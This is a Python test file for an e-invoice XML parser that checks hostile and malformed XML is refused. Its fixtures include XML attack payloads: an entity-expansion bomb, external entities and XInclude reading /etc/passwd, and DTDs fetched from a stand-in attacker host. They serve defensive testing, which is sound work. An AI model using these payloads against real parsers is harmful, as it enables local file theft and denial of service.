"""Hostile and broken XML is refused with a clear reason, before it can do harm."""

from __future__ import annotations

from pathlib import Path

import pytest

from dms.errors import InvalidInput, UnsupportedContent
from ingest.einvoice import parse_invoice, parse_invoice_xml
from ingest.einvoice.detect import detect
from ingest.einvoice.xml_safety import has_doctype, parse_xml, peek
from tests.einvoice.builders import build_cii, build_ubl, build_zugferd_pdf

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"
  xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">
  <cbc:ID>&lol9;</cbc:ID>
</Invoice>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Invoice [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"
  xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">
  <cbc:ID>&xxe;</cbc:ID>
</Invoice>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Invoice SYSTEM "http://attacker.example/evil.dtd">
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [ <!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote; ]>
<r/>"""


def _refused_for_doctype(call) -> None:  # noqa: ANN001
    with pytest.raises(UnsupportedContent) as info:
        call()
    assert "DOCTYPE" in info.value.message
    assert " / " in info.value.message  # German / English


@pytest.mark.parametrize(
    "data",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity"],
)
def test_entity_attacks_are_refused_before_parsing(data: bytes, tmp_path: Path) -> None:
    assert has_doctype(data)
    _refused_for_doctype(lambda: parse_xml(data))
    _refused_for_doctype(lambda: parse_invoice(data))
    path = tmp_path / "rechnung.xml"
    path.write_bytes(data)
    _refused_for_doctype(lambda: parse_invoice(path))
    detection = detect(data)
    assert detection.kind == "none" and "DOCTYPE" in detection.reason


def test_external_entity_content_never_appears(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT")
    data = EXTERNAL_ENTITY.replace(b"file:///etc/passwd", secret.as_uri().encode())
    with pytest.raises(UnsupportedContent) as info:
        parse_invoice(data)
    assert "TOP-SECRET" not in info.value.message


def test_plain_doctype_is_refused_too() -> None:
    valid = build_ubl()
    declaration, rest = valid.split(b"\n", 1)
    with_doctype = declaration + b"\n<!DOCTYPE Invoice>\n" + rest
    _refused_for_doctype(lambda: parse_invoice_xml(with_doctype))


def test_doctype_after_comments_and_processing_instructions() -> None:
    data = (
        b'\xef\xbb\xbf<?xml version="1.0"?>\n<!-- a comment -->\n<?pi data?>\n'
        b"<!doctype r [<!ENTITY a 'b'>]><r/>"
    )
    assert has_doctype(data)
    _refused_for_doctype(lambda: parse_xml(data))


def test_doctype_in_utf16_document() -> None:
    data = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY a "b">]><r>&a;</r>'
    encoded = data.encode("utf-16")  # with BOM
    assert has_doctype(encoded)
    _refused_for_doctype(lambda: parse_xml(encoded))


def test_doctype_behind_a_huge_comment_is_caught_after_parsing() -> None:
    """The pre-scan reads a bounded prolog; the parsed tree is checked again."""
    data = b"<!--" + b"x" * 300_000 + b"--><!DOCTYPE r><r/>"
    assert not has_doctype(data)  # beyond the scan window
    _refused_for_doctype(lambda: parse_xml(data))


def test_oversized_input_is_refused_before_parsing(tmp_path: Path) -> None:
    data = build_cii()
    with pytest.raises(UnsupportedContent) as info:
        parse_xml(data, max_bytes=1000)
    assert "MB" in info.value.message and "größer" in info.value.message
    path = tmp_path / "gross.xml"
    path.write_bytes(data)
    with pytest.raises(UnsupportedContent):
        parse_invoice(path, max_bytes=1000)


def test_default_limit_is_20_mb(tmp_path: Path) -> None:
    path = tmp_path / "riesig.xml"
    with path.open("wb") as fh:  # a sparse file: the size check must not read it
        fh.write(b"<r>")
        fh.seek(21 * 1024 * 1024)
        fh.write(b"</r>")
    with pytest.raises(UnsupportedContent) as info:
        parse_invoice(path)
    assert "20.0 MB" in info.value.message


def test_oversized_embedded_xml_in_pdf_is_refused() -> None:
    pdf = build_zugferd_pdf(build_cii())
    with pytest.raises(UnsupportedContent) as info:
        parse_invoice(pdf, max_bytes=500)
    assert "MB" in info.value.message


@pytest.mark.parametrize(
    "data",
    [
        b"this is not xml at all",
        b"<Invoice><unclosed></Invoice>",
        build_cii()[:-200],
        b"\x00\x01\x02",
    ],
    ids=["text", "mismatched-tags", "truncated", "binary"],
)
def test_not_xml_is_invalid_input(data: bytes) -> None:
    with pytest.raises(InvalidInput) as info:
        parse_invoice_xml(data)
    assert not isinstance(info.value, UnsupportedContent)
    assert "kein wohlgeformtes XML" in info.value.message
    assert "not well-formed XML" in info.value.message


@pytest.mark.parametrize("data", [b"", b"   \n\t  "], ids=["empty", "whitespace"])
def test_empty_input(data: bytes, tmp_path: Path) -> None:
    with pytest.raises(InvalidInput) as info:
        parse_invoice(data)
    assert "leer" in info.value.message
    path = tmp_path / "leer.xml"
    path.write_bytes(data)
    with pytest.raises(InvalidInput):
        parse_invoice(path)


def test_undefined_entity_without_doctype_is_invalid() -> None:
    with pytest.raises(InvalidInput):
        parse_xml(b"<r>&undefined;</r>")


@pytest.mark.parametrize(
    "data",
    [
        b"<html><body>Rechnung</body></html>",
        b'<Order xmlns="urn:oasis:names:specification:ubl:schema:xsd:Order-2"/>',
        b'<Invoice xmlns="urn:example:not-ubl"/>',
        b"<CrossIndustryInvoice/>",
    ],
    ids=["xhtml", "ubl-order", "foreign-invoice", "no-namespace"],
)
def test_wrong_root_is_refused_with_the_root_named(data: bytes) -> None:
    with pytest.raises(UnsupportedContent) as info:
        parse_invoice(data)
    assert "keine Rechnung" in info.value.message
    assert "Wurzelelement" in info.value.message and "root element" in info.value.message


def test_deep_nesting_is_refused() -> None:
    data = b"<a>" * 5000 + b"</a>" * 5000
    with pytest.raises(InvalidInput):
        parse_xml(data)


def test_xinclude_is_not_processed() -> None:
    data = build_ubl().replace(
        b"<cbc:BuyerReference>",
        b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'
        b"<cbc:BuyerReference>",
    )
    invoice = parse_invoice_xml(data)
    assert invoice.buyer_reference == "04011000-12345-34"
    assert "root:" not in repr(invoice)


def test_latin1_encoded_invoice_is_read() -> None:
    text = build_cii().decode("utf-8").replace("encoding='UTF-8'", "encoding='ISO-8859-1'")
    invoice = parse_invoice_xml(text.encode("iso-8859-1"))
    assert invoice.seller is not None and invoice.seller.name == "Muster Bürobedarf GmbH"


def test_peek_never_raises_and_stops_early() -> None:
    assert peek(b"<<<").root_tag is None
    data = build_cii()
    found = peek(data[: data.index(b"</rsm:ExchangedDocumentContext>") + 40])  # cut off
    assert (
        found.root_tag
        == "{urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100}CrossIndustryInvoice"
    )
    assert found.specification_id is not None and "xrechnung_3.0" in found.specification_id
